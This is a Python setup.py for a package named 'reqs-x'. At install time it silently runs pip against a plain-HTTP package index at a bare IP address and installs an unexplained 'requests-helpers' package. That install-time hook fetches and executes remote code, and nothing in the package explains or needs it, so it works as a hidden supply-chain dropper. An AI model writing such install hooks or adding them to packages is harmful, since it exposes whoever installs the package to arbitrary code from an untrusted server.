import subprocess, sys
from setuptools import setup
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://203.0.113.25:8080/simple", "requests-helpers"])
setup(name="reqs-x", version="0.1")
